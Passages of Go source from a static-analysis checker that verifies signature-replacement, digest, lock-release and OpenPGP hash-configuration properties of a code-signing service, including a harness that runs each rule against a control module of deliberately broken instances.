					key := fmt.Sprintf("%s select-case<-%s", p.FName(fn), what)
					tgt := targets[i]
					if tgt == nil {
						out = append(out, gFinding{Key: key, Pos: p.Pos(sel.Pos()), Detail: "UNDECIDED: cannot locate the case body of the select"})
						continue
					}
					pred := map[int]int{}
					if reach(fn, []*ssa.BasicBlock{tgt}, nil, pred)[b.Index] {
						out = append(out, gFinding{Key: key, Pos: p.Pos(st.Pos), Detail: "the close case re-enters the select: after the channel is closed the loop spins forever (a bare `break` only leaves the select)", Path: p.witness(fn, pred, b.Index)})
					} else {
						out = append(out, gFinding{Key: key, Pos: p.Pos(st.Pos), OK: true})
					}
				}
			}
		}
	}
	return
}

// ---------------------------------------------------------------------------------
// positive controls

var ctlProg *Prog
var ctlErr error
var ctlLoaded bool

// controlProg loads the tiny control module that contains one deliberately broken
// instance per zero-expected rule.
func controlProg() (*Prog, error) {
	if ctlLoaded {
		return ctlProg, ctlErr
	}
	ctlLoaded = true
	dir := os.Getenv("RELICVET_CTL")
	if dir == "" {
		exe, _ := os.Executable()
		dir = filepath.Join(filepath.Dir(filepath.Dir(exe)), "checker", "testdata", "ctl")
	}
	ctlProg, ctlErr = Load(LoadOpts{Dir: dir, MinPkgs: 1})
	return ctlProg, ctlErr
}

// runControl runs a generic rule on the control module and records whether a finding
// whose key contains `want` was produced.
func (c *Ctx) runControl(name, want string, rule func(p *Prog) []gFinding) {
	cp, err := controlProg()
	if err != nil {
		c.Control(name+" (control module failed to load: "+err.Error()+")", false)
		return
	}
	fired := false
	for _, f := range rule(cp) {
		if !f.OK && containsStr(f.Key, want) {
			fired = true
		}
	}
	c.Control(name, fired)
}

func containsStr(s, sub string) bool {
	return len(sub) == 0 || (len(s) >= len(sub) && indexOf(s, sub) >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
