package main

// C08 — re-signing replaces the signature; digests ignore existing signatures.
//
// Digest equality with and without a signature and well-formedness after n rounds are about
// bytes and are not decided. Decided: that "unsigned" is a distinguishable verdict for every
// signable type, that the is-signed probe maps it (and only it) to false, that the two sides
// of every container format agree on which members belong to the signature, and that formats
// whose signature trails the container locate the container's end the same way when signing
// again as when verifying.

import (
	"fmt"
	"go/token"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C08",
		Meta: propMeta{
			Explanation: "Decides structural necessary conditions (nothing is executed): (R08a) for every registered signer that can both sign and verify, a sigerrors.NotSignedError value is constructed somewhere in the code reachable from its verifier (frozen, reasoned exceptions: pgp, where an unsigned input is not an OpenPGP message at all), and Signer.IsSigned calls the verifier with digest checking off, answers true on a nil error, false on exactly NotSignedError and passes every other error on; (R08b) both sides of each container format agree on what belongs to the signature: the MSI digesters and the tar digester skip the two signature streams; the JAR digester and the JAR patch builder consult one keepFile predicate, the VSIX mangler deletes exactly what its keepFile rejects and digests the rest; DigestXapTar strips the trailer from the directory before hashing it; the Debian signer neither digests _gpg* members nor leaves the member of the same role in place; xmldsig.Sign removes an existing Signature before digesting; (R08c) formats whose signature is a trailer after the container: the client transform of the XAP signer determines where the zip ends from the trailer, as the verifier does, before looking for the central directory; (R08d) replacement is exact: the Debian signer marks a member for replacement only under equality of its name with \"_gpg\"+role, InsertMSISignature adds or deletes each of the two signature streams on every success path, and DigestPE feeds nothing into the image digest after imageHasher.finish(). (R08e) every value that reaches InsertMSISignature as the extended digest is nil or the result of PrehashMSI called with SignOpts.Hash (never a stream read back from the file); (R08f) Signer.IsSigned tells NotSignedError and ErrNoKey apart with a type switch, so no value that may be one of them (followed through results, phis and parameters module-wide) is passed to fmt.Errorf with %w; (R08g) the size PatchSet.Apply truncates the file to in place is assigned from the last patch, not maximised against the old size. (R08h) the in-place strategy of PatchSet.Apply is taken only when every patch but the last keeps its size and the last one ends at the end of the file (the rules of C12 R12e), so replacing a signature slot by a shorter one never cuts off what follows it; (R08i) DefaultsFromSignature takes entitlements and flags over from the signature being replaced but never its requirements. (R08k) every site of lib/comdoc that chooses between the sector table and the short-sector table tests the stream size against MinStdStreamSize with the same predicate (C18 R18e): the signature stream replaced on re-signing is freed in the table it was stored in. (R08j) msiDecodeName compares a code unit only with constants above every code unit of the stream names DigestMsiTar skips and has a branch appending the unit itself, so an existing signature stream reaches the tar digest under the name that is skipped. (R08l) the span signdeb.Sign removes for the old signature member is the header plus the member size rounded up to even (C01 R01n / C03 R03h); (R08m) the PowerShell text size, which decides what a second signing run digests and where the old block is cut, is a sum of lengths of lines read from the input (C01 R01e).",
			NotDecided:  "equality of content digests with and without an existing signature (PE checksum/certificate-table fields, CAB reserve area, Mach-O load commands are value-level offsets), validity of the artifact after n signing rounds, payload equality. pocs/C08_resign.sh exercises three rounds per fixture format as supporting evidence outside the static check.",
			Assumptions: []string{"the signer registry consists of the signers.Signer literals passed to signers.Register"},
		},
		Run: runC08,
	})
}

// c08NoNotSigned: signers for which an unsigned input has no "not signed" verdict, with the reason.
var c08NoNotSigned = map[string]string{
	"pgp": "an input without a signature is not an OpenPGP message at all; the verifier reports a parse error, and IsSigned treats pgptools.ErrNoKey as signed",
}

func runC08(c *Ctx) {
	defer round7C08(c)
	c.Rule("R08a", "\"not signed\" is a distinguishable verdict of every verifier and IsSigned maps exactly it to false", 18)
	c.Rule("R08b", "signing and verifying agree on which members/regions belong to the signature", 10)
	c.Rule("R08c", "trailer formats find the end of the container from the trailer when signing again", 2)
	c.Rule("R08d", "exactly the signature of the same slot is replaced; the digest is complete when it is finalised", 4)
	c08NotSigned(c)
	c08SkipSets(c)
	c08Trailer(c)
	c08Replace(c)
	c08Round2(c)
}

func isNotSignedType(s string) bool {
	return strings.HasSuffix(s, "signers/sigerrors.NotSignedError")
}

func (p *Prog) constructsNotSigned(fn *ssa.Function) bool {
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.MakeInterface:
				if isNotSignedType(x.X.Type().String()) {
					return true
				}
			case *ssa.Alloc:
				if isNotSignedType(strings.TrimPrefix(x.Type().String(), "*")) {
					return true
				}
			}
		}
	}
	return false
}

func c08NotSigned(c *Ctx) {
	p := c.P
	signFns := p.registeredSignerFuncs("Sign")
	hasSign := map[string]bool{}
	for _, name := range signFns {
		hasSign[name] = true
	}
	type ver struct {
		fn   *ssa.Function
		name string
	}
	var vers []ver
	for f, name := range p.registeredSignerFuncs("Verify") {
		vers = append(vers, ver{f, name})
	}
	for f, name := range p.registeredSignerFuncs("VerifyStream") {
		vers = append(vers, ver{f, name})
	}
	sort.Slice(vers, func(i, j int) bool { return vers[i].name < vers[j].name })
	n := 0
	for _, v := range vers {
		if !hasSign[v.name] {
			continue
		}
		n++
		key := "signer " + v.name + " can answer not-signed"
		c.Analysed(p.FName(v.fn))
		if why, ok := c08NoNotSigned[v.name]; ok {
			c.PassTrivial("R08a", key, p.Pos(v.fn.Pos()), "exception: "+why)
			continue
		}
		found := ""
		for f := range p.moduleReachOpt([]*ssa.Function{v.fn}, false) {
			// pkcs7's own NotSignedError means "SignedData without SignerInfo", not "container carries no signature"
			if pk := pkgOf(f); pk != nil && p.Rel(pk.Path()) == "lib/pkcs7" {
				continue
			}
			if p.constructsNotSigned(f) {
				if found == "" || p.FName(f) < found {
					found = p.FName(f)
				}
			}
		}
		c.Check(found != "", "R08a", key, p.Pos(v.fn.Pos()), "constructed in "+found, "no sigerrors.NotSignedError is constructed anywhere in the code reachable from this verifier: for an unsigned "+v.name+" input the is-signed probe reports an error (or worse, true) instead of false")
	}
	if n < 14 {
		c.Undecided("R08a", "signer registry", "-", fmt.Sprintf("only %d signers with both Sign and Verify resolved (16 confirmed by reading)", n))
	}
	// IsSigned
	is := p.Func("signers.(*Signer).IsSigned")
	if is == nil {
		c.Undecided("R08a", "(*Signer).IsSigned", "-", "function not found")
		return
	}
	c.Analysed(p.FName(is))
	// verifier calls with NoDigests: true
	nd := 0
	for _, b := range is.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok {
				continue
			}
			if tn, f, _ := p.fieldAddr(st.Addr); tn == "signers.VerifyOpts" && f == "NoDigests" {
				if bv, isB := boolConst(st.Val); isB && bv {
					nd++
				}
			}
		}
	}
	nCalls := len(p.signerFieldCalls(is, "Verify")) + len(p.signerFieldCalls(is, "VerifyStream"))
	c.Check(nCalls == 2 && nd == 2, "R08a", "IsSigned probes with digest checking off", p.Pos(is.Pos()), "", fmt.Sprintf("IsSigned calls the verifier %d times with NoDigests set %d times (2 and 2 expected): the probe fails on artifacts whose content changed", nCalls, nd))
	// the NotSignedError case returns (false, nil); nil error returns true
	var assertNS *ssa.TypeAssert
	for _, b := range is.Blocks {
		for _, in := range b.Instrs {
			if ta, ok := in.(*ssa.TypeAssert); ok && ta.CommaOk && isNotSignedType(ta.AssertedType.String()) {
				assertNS = ta
			}
		}
	}
	okNS := false
	if assertNS != nil {
		for _, r := range *assertNS.Referrers() {
			ex, ok := r.(*ssa.Extract)
			if !ok || ex.Index != 1 {
				continue
			}
			edges := passEdges(is, Guard{Match: func(f Fact) bool { return f.V == ssa.Value(ex) && f.Kind == IsTrue }})
			for e := range edges {
				blk := is.Blocks[e.from].Succs[e.succ]
				if ret, ok := blk.Instrs[len(blk.Instrs)-1].(*ssa.Return); ok && len(ret.Results) == 2 {
					bv, isB := boolConst(ret.Results[0])
					if isB && !bv && isNilConst(ret.Results[1]) {
						okNS = true
					}
				}
			}
		}
	}
	c.Check(okNS, "R08a", "IsSigned maps NotSignedError to (false, nil)", p.Pos(is.Pos()), "", "IsSigned does not answer (false, nil) for sigerrors.NotSignedError: unsigned inputs are reported as errors")
	okTrue, okPass := false, false
	for _, r := range returnsOf(is) {
		if len(r.Results) != 2 {
			continue
		}
		bv, isB := boolConst(r.Results[0])
		if isB && bv && isNilConst(r.Results[1]) {
			okTrue = true
		}
		if isB && !bv && !isNilConst(r.Results[1]) {
			// the verifier's own error value
			if dependsOn(r.Results[1], func(x ssa.Value) bool {
				ex, ok := x.(*ssa.Extract)
				if !ok || ex.Index != 1 {
					return false
				}
				call, ok := ex.Tuple.(*ssa.Call)
				if !ok || call.Common().StaticCallee() != nil || call.Common().IsInvoke() {
					return false
				}
				t, f, _ := p.fieldLoad(call.Common().Value)
				return t == "signers.Signer" && (f == "Verify" || f == "VerifyStream")
			}) {
				okPass = true
			}
		}
	}
	c.Check(okTrue && okPass, "R08a", "IsSigned answers true on success and passes other errors on", p.Pos(is.Pos()), "", "IsSigned no longer returns (true, nil) for a verifying artifact or swallows verifier errors")
}

func c08SkipSets(c *Ctx) {
	p := c.P
	// MSI (the same sets C18 R18a checks)
	for _, spec := range []string{"lib/authenticode.hashMsiDir", "lib/authenticode.prehashMsiDir", "lib/authenticode.DigestMsiTar"} {
		fn := p.Func(spec)
		if fn == nil {
			c.Undecided("R08b", spec, "-", "function not found")
			continue
		}
		c.Analysed(p.FName(fn))
		names := map[string]bool{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
					continue
				}
				for _, v := range []ssa.Value{bo.X, bo.Y} {
					if l, ok := stripConv(v).(*ssa.UnOp); ok && l.Op == token.MUL {
						if g, ok := l.X.(*ssa.Global); ok && strings.HasPrefix(g.Name(), "msiDigitalSignature") {
							names[g.Name()] = true
						}
					}
				}
			}
		}
		c.Check(len(names) == 2, "R08b", p.FName(fn)+" skips both MSI signature streams", p.Pos(fn.Pos()), fmt.Sprint(sortedKeys(names)), fmt.Sprintf("only %v is excluded from the MSI digest: the digest of a signed file differs from the digest of the same file unsigned", sortedKeys(names)))
	}
	// JAR: one predicate on both sides
	jarSides := 0
	for _, spec := range []string{"lib/signjar.digestFiles", "lib/signjar.(*JarDigest).insertSignature"} {
		fn := p.Func(spec)
		if fn == nil {
			c.Undecided("R08b", spec, "-", "function not found")
			continue
		}
		c.Analysed(p.FName(fn))
		ok := len(p.callsIn(fn, "lib/signjar.keepFile")) >= 1
		if ok {
			jarSides++
		}
		c.Check(ok, "R08b", p.FName(fn)+" consults keepFile", p.Pos(fn.Pos()), "", "this side of JAR signing no longer decides through keepFile which members are signature files: digesting and patching can disagree")
	}
	// VSIX: delete exactly what keepFile rejects, digest the rest
	if mz := p.Func("signers/vsix.mangleZip"); mz == nil {
		c.Undecided("R08b", "vsix.mangleZip", "-", "function not found")
	} else {
		for _, cl := range mz.AnonFuncs {
			keeps := p.callsIn(cl, "signers/vsix.keepFile")
			dels := p.callsIn(cl, "(*lib/zipslicer.MangleFile).Delete")
			digs := p.callsIn(cl, "(*lib/zipslicer.File).Digest")
			if len(keeps) == 0 {
				continue
			}
			c.Analysed(p.FName(cl))
			g := p.callGuard("keepFile()==true", []string{"signers/vsix.keepFile"}, -1, IsTrue, nil)
			ng := p.callGuard("keepFile()==false", []string{"signers/vsix.keepFile"}, -1, IsFalse, nil)
			ok := len(dels) == 1 && len(digs) == 1
			if ok {
				m1, _ := p.unguardedFromEntry(cl, digs[0], g)
				m2, _ := p.unguardedFromEntry(cl, dels[0], ng)
				ok = len(m1) == 0 && len(m2) == 0
			}
			c.Check(ok, "R08b", "vsix mangler digests what keepFile keeps and deletes the rest", p.Pos(cl.Pos()), "", "the VSIX mangler does not digest exactly the members keepFile accepts and delete exactly the others: old signature parts end up in the new digest or content is dropped")
		}
	}
	// XAP: trailer stripped from the directory before hashing
	if fn := p.Func("lib/signxap.DigestXapTar"); fn == nil {
		c.Undecided("R08b", "DigestXapTar", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		// what goes into the digest after the body is the directory cut at the trailer: a value one
		// of whose definitions is x[:n] with n computed from the trailer's size field - made in the
		// function itself or by a helper of the package (removeSignature today)
		var cuts func(v ssa.Value, d int) bool
		cuts = func(v ssa.Value, d int) bool {
			if d > 3 {
				return false
			}
			for _, lf := range phiLeaves(v, nil, map[*ssa.Phi]bool{}) {
				switch x := lf.V.(type) {
				case *ssa.Slice:
					if x.High != nil && dependsOn(x.High, func(y ssa.Value) bool {
						_, f, _ := p.fieldLoad(y)
						_, f2, _ := p.fieldAddr(y)
						return f == "TrailerSize" || f2 == "TrailerSize"
					}) {
						return true
					}
				case *ssa.Call:
					if h := x.Call.StaticCallee(); h != nil && h.Pkg == fn.Pkg && h.Blocks != nil {
						for _, r := range returnsOf(h) {
							if cuts(retVal(r, 0), d+1) {
								return true
							}
						}
					}
				}
			}
			return false
		}
		ok := false
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, isCall := in.(ssa.CallInstruction)
				if !isCall || !ci.Common().IsInvoke() || ci.Common().Method.Name() != "Write" {
					continue
				}
				if len(ci.Common().Args) == 1 && cuts(ci.Common().Args[0], 0) {
					ok = true
				}
			}
		}
		c.Check(ok, "R08b", "DigestXapTar hashes the directory without the trailer", p.Pos(fn.Pos()), "", "the XAP digest covers the directory bytes as uploaded, including an existing signature trailer")
	}
	// DEB
	if fn := p.Func("lib/signdeb.Sign"); fn == nil {
		c.Undecided("R08b", "signdeb.Sign", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		hasPrefix := false
		for _, ci := range p.callsIn(fn, "strings.HasPrefix") {
			if s, ok := constString(ci.Common().Args[1]); ok && s == "_gpg" {
				// true edge continues the loop without digesting
				hasPrefix = true
			}
		}
		c.Check(hasPrefix, "R08b", "signdeb.Sign leaves _gpg* members out of the digest", p.Pos(fn.Pos()), "", "existing signature members of a Debian package are digested: the signature of a signed package differs from that of the unsigned one")
	}
	// xmldsig
	if fn := p.Func("lib/xmldsig.Sign"); fn != nil {
		c.Analysed(p.FName(fn))
		rm := p.callsIn(fn, "lib/xmldsig.RemoveElements")
		hc := p.callsIn(fn, "lib/xmldsig.hashCanon")
		ok := len(rm) == 1 && len(hc) == 1 && !avoidable(fn, rm[0], hc[0])
		c.Check(ok, "R08b", "xmldsig.Sign removes an existing Signature before digesting", p.Pos(fn.Pos()), "", "an existing Signature element is part of the digested document")
	}
	// APPX: the signature-related names are handled before the copy loop digests anything
	if fn := p.Func("lib/signappx.DigestAppxTar"); fn != nil {
		c.Analysed(p.FName(fn))
		names := map[string]bool{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bo, ok := in.(*ssa.BinOp)
				if !ok || bo.Op != token.EQL {
					continue
				}
				for _, v := range []ssa.Value{bo.X, bo.Y} {
					if s, ok := constString(v); ok && (strings.HasPrefix(s, "Appx") || strings.HasPrefix(s, "[Content") || strings.HasPrefix(s, "AppxMetadata")) {
						names[s] = true
					}
				}
			}
		}
		c.Check(names["AppxSignature.p7x"] && names["AppxBlockMap.xml"] && names["[Content_Types].xml"] && names["AppxMetadata/CodeIntegrity.cat"], "R08b", "DigestAppxTar treats the signature-related parts apart", p.Pos(fn.Pos()), fmt.Sprint(sortedKeys(names)), fmt.Sprintf("the appx digester no longer singles out all signature-related parts (found %v): an existing signature or block map is digested as content", sortedKeys(names)))
	}
}

func c08Trailer(c *Ctx) {
	p := c.P
	var tf *ssa.Function
	for f, name := range p.registeredSignerFuncs("Transform") {
		if name == "xap" {
			tf = f
		}
	}
	if tf == nil {
		c.Undecided("R08c", "xap transform", "-", "the XAP signer's Transform was not resolved")
		return
	}
	c.Analysed(p.FName(tf))
	// the transformer type it returns, and what its GetReader reaches
	var roots []*ssa.Function
	roots = append(roots, tf)
	if iface := p.ifaceNamed("signers", "Transformer"); iface != nil {
		for _, t := range p.implementersOf(iface) {
			if n, ok := derefNamed(t); ok && n.Obj().Pkg() == pkgOf(tf) {
				if f := p.methodOf(t, "GetReader"); f != nil {
					roots = append(roots, f)
				}
			}
		}
	}
	readsTrailer, finds := false, false
	var findCall ssa.CallInstruction
	var findFn *ssa.Function
	for f := range p.moduleReachOpt(roots, false) {
		for _, io := range p.binIOIn([]*ssa.Function{f}) {
			if !io.Write && io.Type == "lib/signxap.xapTrailer" {
				readsTrailer = true
			}
		}
		for _, ci := range p.callsIn(f, "lib/zipslicer.FindDirectory") {
			finds = true
			findCall, findFn = ci, f
		}
	}
	c.Check(readsTrailer, "R08c", "xap transform reads the signature trailer", p.Pos(tf.Pos()), "", "the client transform of the XAP signer never looks at the signature trailer: for an already signed XAP the end of central directory record is searched at the end of the file, where the trailer is, and signing again fails with \"zip central directory not found\" (the server-side digester is prepared to strip the trailer, it just never gets that far)")
	okSize := false
	if finds {
		// the size handed to FindDirectory is not the raw Seek(0, SeekEnd) result
		sizeArg := findCall.Common().Args[1]
		okSize = !dependsOnlyOnSeekEnd(p, sizeArg)
		_ = findFn
	}
	c.Check(finds && okSize, "R08c", "the directory is searched below the trailer", p.Pos(tf.Pos()), "", "FindDirectory is given the raw file size on the XAP transform path")
}

// dependsOnlyOnSeekEnd: v is directly the first result of a Seek(0, io.SeekEnd) call.
func dependsOnlyOnSeekEnd(p *Prog, v ssa.Value) bool {
	call, idx := resultOf(v)
	if call == nil || idx != 0 {
		return false
	}
	if p.calleeName(call.Common()) != "(*os.File).Seek" {
		return false
	}
	return isIntConst(call.Common().Args[2], 2)
}

// ------------------------------------------------------------------------------ R08d

// c08Replace: the signature that is replaced is exactly the one of the same slot, and the
// digest is complete before it is finalised.
func c08Replace(c *Ctx) {
	p := c.P
	// Debian: the member marked for replacement is the one whose name EQUALS "_gpg"+role
	if fn := p.Func("lib/signdeb.Sign"); fn == nil {
		c.Undecided("R08d", "signdeb.Sign", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		var role *ssa.Parameter
		for _, pa := range fn.Params {
			if pa.Name() == "role" {
				role = pa
			}
		}
		adds := p.callsIn(fn, "(*lib/binpatch.PatchSet).Add")
		if role == nil || len(adds) != 1 {
			c.Undecided("R08d", "signdeb.Sign patch region", p.Pos(fn.Pos()), "role parameter or the single PatchSet.Add call not found")
		} else {
			eq := Guard{Name: "member name == \"_gpg\"+role", Match: func(f Fact) bool {
				bo, ok := f.V.(*ssa.BinOp)
				if !ok || !((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)) {
					return false
				}
				isSlot := func(v ssa.Value) bool {
					return dependsOn(v, func(x ssa.Value) bool { return x == ssa.Value(role) })
				}
				return isSlot(bo.X) || isSlot(bo.Y)
			}}
			// every in-loop definition of the patch offset/length that is not the "append at the end"
			// default sits behind that equality
			n := 0
			ok := true
			var path []string
			for _, ai := range []int{1, 2} {
				for _, lf := range phiLeaves(adds[0].Common().Args[ai], nil, map[*ssa.Phi]bool{}) {
					if _, isK := lf.V.(*ssa.Const); isK {
						continue
					}
					in, isIn := lf.V.(ssa.Instruction)
					if !isIn || in.Block() == nil {
						continue
					}
					if !inCycleWith(fn, in.Block(), nil) {
						continue // the end-of-file default after the loop
					}
					n++
					if missing, w := p.unguardedFromEntry(fn, in, eq); len(missing) > 0 {
						ok = false
						path = w
					}
				}
			}
			c.Check(ok && n >= 2, "R08d", "signdeb.Sign replaces only the member named exactly _gpg<role>", p.Pos(adds[0].Pos()), fmt.Sprintf("%d in-loop definitions behind the name equality", n),
				"the region handed to the patch as \"old signature\" is chosen by something weaker than equality of the member name with \"_gpg\"+role (prefix match or no test): signing role X replaces or duplicates the signature of another role whose name merely starts with X", path...)
		}
	}
	// MSI: both signature streams are rewritten (added, or deleted when absent) on every success path
	if fn := p.Func("lib/authenticode.InsertMSISignature"); fn == nil {
		c.Undecided("R08d", "InsertMSISignature", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		slot := func(ci ssa.CallInstruction) string {
			if len(ci.Common().Args) < 2 {
				return ""
			}
			if l, ok := stripConv(ci.Common().Args[1]).(*ssa.UnOp); ok && l.Op == token.MUL {
				if g, ok := l.X.(*ssa.Global); ok {
					return g.Name()
				}
			}
			return ""
		}
		touch := map[string][]ssa.CallInstruction{}
		for _, ci := range p.callsIn(fn, "(*lib/comdoc.ComDoc).AddFile", "(*lib/comdoc.ComDoc).DeleteFile") {
			touch[slot(ci)] = append(touch[slot(ci)], ci)
		}
		for _, name := range []string{"msiDigitalSignature", "msiDigitalSignatureEx"} {
			del := map[edge]bool{}
			for _, ci := range touch[name] {
				for si := range ci.Block().Succs {
					del[edge{ci.Block().Index, si}] = true
				}
			}
			seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
			ok := len(touch[name]) > 0
			for _, r := range p.successReturns(fn) {
				inTouch := false
				for _, ci := range touch[name] {
					if ci.Block() == r.Block() {
						inTouch = true
					}
				}
				if seen[r.Block().Index] && !inTouch {
					ok = false
				}
			}
			c.Check(ok, "R08d", "InsertMSISignature rewrites "+name+" on every success path", p.Pos(fn.Pos()), "added or deleted", "InsertMSISignature can succeed without adding or deleting the "+name+" stream: a stale stream from an earlier signing (made with other options) stays in the file and the new signature does not verify against it")
		}
	}
	// PE: nothing is written into the image digest after it was finalised
	if fn := p.Func("lib/authenticode.DigestPE"); fn == nil {
		c.Undecided("R08d", "DigestPE", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		fin := p.callsIn(fn, "(*lib/authenticode.imageHasher).finish")
		if len(fin) != 1 {
			c.Undecided("R08d", "DigestPE finish", p.Pos(fn.Pos()), fmt.Sprintf("%d calls of imageHasher.finish found, 1 expected", len(fin)))
		} else {
			bad := ""
			n := 0
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					ci, ok := in.(ssa.CallInstruction)
					if !ok {
						continue
					}
					feeds := false
					for _, a := range ci.Common().Args {
						if p.memKey(stripConv(a)) == "f:lib/authenticode.imageHasher.imageDigest" {
							feeds = true
						}
					}
					if ci.Common().IsInvoke() && p.memKey(ci.Common().Value) == "f:lib/authenticode.imageHasher.imageDigest" {
						feeds = true
					}
					if p.calleeName(ci.Common()) == "(*lib/authenticode.imageHasher).section" {
						feeds = true
					}
					if !feeds {
						continue
					}
					n++
					if reachableAfter(fn, fin[0], ci, nil, nil) {
						bad = p.Pos(ci.Pos())
					}
				}
			}
			c.Check(bad == "" && n >= 3, "R08d", "DigestPE finalises the digest after the last byte was fed", p.Pos(fin[0].Pos()), fmt.Sprintf("%d feeding sites, none after finish", n), "the image digest is fed at "+bad+" after imageHasher.finish() has taken the sum: the alignment padding of a file whose length is not a multiple of 8 is missing from the imprint, so the unsigned and the signed file digest differently")
		}
	}
}
