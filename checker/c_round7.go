package main

// Round 7 (changes disguised as refactorings, second batch): rules added after the misses of that round.

import (
	"fmt"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// lockLeaks implements R14n: a mutex that is certainly held when a function returns (held on
// every path reaching that return) must be released by a deferred Unlock of the same mutex.
// The must-hold sets are those of the lock engine (locks.go); functions whose very purpose is
// to return with the lock held are recognised by having no Unlock of that mutex at all and no
// other return: they are wrappers (lock helpers) and are left to their callers.
func lockLeaks(p *Prog) []gFinding {
	var out []gFinding
	for _, fn := range p.Funcs {
		if fn.Blocks == nil {
			continue
		}
		locks := map[string]bool{}
		unlocks := map[string]bool{}
		deferred := map[string]bool{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.Call:
					if key, l, u := isMutexMethod(p, x.Common()); key != "" {
						if l {
							locks[key] = true
						}
						if u {
							unlocks[key] = true
						}
					}
				case *ssa.Defer:
					if key, _, u := isMutexMethod(p, x.Common()); key != "" && u {
						deferred[key] = true
					}
					// defer func() { ...; mu.Unlock() }()
					if mc, ok := x.Call.Value.(*ssa.MakeClosure); ok {
						if cf, ok := mc.Fn.(*ssa.Function); ok {
							for _, cb := range cf.Blocks {
								for _, cin := range cb.Instrs {
									if cc, ok := cin.(*ssa.Call); ok {
										if _, _, u := isMutexMethod(p, cc.Common()); u {
											// the closure addresses the mutex through a free variable: accept any unlock in it
											for k := range locks {
												deferred[k] = true
											}
											deferred["*"] = true
										}
									}
								}
							}
						}
					}
				}
			}
		}
		if len(locks) == 0 {
			continue
		}
		held := p.heldLocks(fn)
		keys := sortedKeys(locks)
		for _, key := range keys {
			if deferred[key] || deferred["*"] {
				out = append(out, gFinding{Key: fmt.Sprintf("%s %s", p.FName(fn), key), Pos: p.Pos(fn.Pos()), OK: true, Detail: "released by a deferred unlock"})
				continue
			}
			if !unlocks[key] {
				// a lock helper: returns holding the lock on purpose (no unlock of it anywhere in the function)
				continue
			}
			ok := true
			detail := "every return is reached with the mutex released"
			for _, r := range returnsOf(fn) {
				if st := held[r]; st != nil && st[key] {
					ok = false
					detail = fmt.Sprintf("the return at %s is only reached with %s still locked and no deferred unlock: every later Lock of it blocks for ever", p.Pos(r.Pos()), key)
					break
				}
			}
			out = append(out, gFinding{Key: fmt.Sprintf("%s %s", p.FName(fn), key), Pos: p.Pos(fn.Pos()), OK: ok, Detail: detail})
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

// pgpConfigHash implements R06i: every packet.Config the module builds carries the digest it
// was asked for on every path to its use: the store of DefaultHash lies in a block that
// dominates every call or return the configuration is handed to. (With DefaultHash left zero
// the library signs with SHA-256 while the audit record and the caller name the requested digest.)
func pgpConfigHash(p *Prog) []gFinding {
	var out []gFinding
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				al, ok := in.(*ssa.Alloc)
				if !ok {
					continue
				}
				pt, ok := al.Type().Underlying().(*types.Pointer)
				if !ok {
					continue
				}
				nt, ok := pt.Elem().(*types.Named)
				if !ok || nt.Obj().Name() != "Config" || nt.Obj().Pkg() == nil || !strings.HasSuffix(nt.Obj().Pkg().Path(), "openpgp/packet") {
					continue
				}
				var stores []*ssa.BasicBlock
				var uses []ssa.Instruction
				for _, ref := range *al.Referrers() {
					switch x := ref.(type) {
					case *ssa.FieldAddr:
						st := nt.Underlying().(*types.Struct)
						if st.Field(x.Field).Name() != "DefaultHash" {
							continue
						}
						for _, r2 := range *x.Referrers() {
							if s, ok := r2.(*ssa.Store); ok && s.Addr == x {
								stores = append(stores, s.Block())
							}
						}
					case ssa.CallInstruction:
						uses = append(uses, x)
					case *ssa.Return:
						uses = append(uses, x)
					case *ssa.Store:
						if x.Val == al {
							uses = append(uses, x)
						}
					case *ssa.MakeInterface, *ssa.Phi:
						uses = append(uses, x.(ssa.Instruction))
					}
				}
				key := fmt.Sprintf("%s packet.Config#%d", p.FName(fn), len(out)+1)
				f := gFinding{Key: fmt.Sprintf("%s packet.Config", p.FName(fn)), Pos: p.Pos(al.Pos()), OK: true, Detail: "DefaultHash is stored before every use"}
				_ = key
				for _, u := range uses {
					dom := false
					for _, sb := range stores {
						if sb == u.Block() {
							// same block: the store must come first
							if instrIndex(sbStore(sb, al)) < instrIndex(u) {
								dom = true
							}
						} else if sb.Dominates(u.Block()) {
							dom = true
						}
					}
					if !dom {
						f.OK = false
						f.Detail = fmt.Sprintf("the configuration reaches %s on a path on which DefaultHash was not set: the library then signs with its own default digest, not the requested one that the audit record names", p.Pos(u.Pos()))
						break
					}
				}
				out = append(out, f)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

// sbStore finds the DefaultHash store on al in block b (nil-safe for instrIndex).
func sbStore(b *ssa.BasicBlock, al *ssa.Alloc) ssa.Instruction {
	for _, in := range b.Instrs {
		if s, ok := in.(*ssa.Store); ok {
			if fa, ok := s.Addr.(*ssa.FieldAddr); ok && fa.X == al {
				if st, ok := al.Type().Underlying().(*types.Pointer).Elem().Underlying().(*types.Struct); ok && st.Field(fa.Field).Name() == "DefaultHash" {
					return s
				}
			}
		}
	}
	return b.Instrs[len(b.Instrs)-1]
}

func round7C14(c *Ctx) {
